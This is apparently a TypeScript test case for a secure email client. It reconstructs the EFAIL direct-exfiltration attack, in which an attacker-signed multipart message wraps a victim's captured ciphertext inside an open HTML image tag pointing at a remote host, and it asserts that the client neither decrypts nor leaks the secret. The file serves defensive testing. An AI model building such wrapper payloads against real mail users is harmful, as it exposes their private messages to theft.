/**
 * EFAIL direct exfiltration, signed variant: Eve signs a multipart that wraps Bob's captured
 * ciphertext between her HTML parts, hoping a valid signature makes the client open everything.
 * Encrypted parts inside signed content are not decrypted (decryption-oracle rule).
 */
import { FRAME, type AttackCase } from '../lib/attack-case';
import { bodyOf, encryptedTo, htmlEntity, multipart, signedBy } from '../lib/message';
import { SECRET, secretHtml } from '../lib/secret';

export default {
  name: 'efail-direct-signed-wrapper',
  class: 'efail-direct',
  source: 'Poddebniak et al., "Efail" (2018), direct exfiltration inside a signed message',
  async build(k) {
    const captured = await encryptedTo(
      k.bob,
      {},
      `Content-Type: text/html; charset=utf-8\r\n\r\n${secretHtml}\r\n`,
    );
    return signedBy(
      k.eve,
      { from: 'Eve Example <eve@evil.example>' },
      multipart('mixed', 'efail', [htmlEntity(`<img src="${k.remote}?`), bodyOf(captured), htmlEntity('">')]),
    );
  },
  expect: {
    valid: true,
    coverage: { kind: 'whole', signedPaths: [''] },
    fromMatchesSigner: true,
    integrityProtected: null,
    errors: [],
    contentExcludes: [SECRET],
    frame: {
      statusIncludes: ['Signed by Eve Example', FRAME.notEncrypted],
      statusExcludes: [FRAME.encrypted],
      pageExcludes: [SECRET],
      // One frame per displayed part, each labelled by coverage when the signature is partial.
      sections: [
        { path: '1', label: null },
        { path: '3', label: null },
      ],
    },
  },
} satisfies AttackCase;
